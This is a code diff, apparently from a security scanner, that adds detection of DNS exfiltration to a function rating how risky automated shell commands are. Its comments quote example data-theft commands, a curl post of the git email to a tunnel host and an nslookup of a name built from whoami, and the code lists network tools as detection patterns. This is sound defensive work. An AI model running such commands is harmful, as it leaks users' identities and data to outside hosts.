@@ -1,4 +1,5 @@
 import type { Severity } from '../../signal/schema.js';
+import { dnsLookupInShell } from '../code/dns-exfiltration.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
 import { anyOf, inOrderOnALine } from '../util.js';
@@ -15,14 +16,16 @@ const CHAT_WEBHOOK = /hooks\.slack\.com\/services|discord(?:app)?\.com\/api\/web
 
 /**
  * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
- * download into a shell, decodes and runs hidden text, or reaches a bare public IP or a paste, tunnel
- * or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
+ * download into a shell, decodes and runs hidden text, looks up a name built from data (DNS
+ * exfiltration), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
  * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
  * otherwise.
  */
 export function commandSeverity(command: string, base: Severity): Severity {
   if (findPipeToShell(command).length > 0 || DECODED_OR_FETCHED_AND_RUN.test(command)) return 'high';
   if (isSuspiciousEndpoint(command) && !CHAT_WEBHOOK.test(command)) return 'high';
+  // A DNS lookup of a name built from data (`nslookup "$(whoami).x.tld"`): the lookup carries it out.
+  if (dnsLookupInShell(command) !== null) return 'high';
   if (/\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b|https?:\/\//i.test(command)) return base === 'high' ? 'high' : 'medium';
   return base;
 }
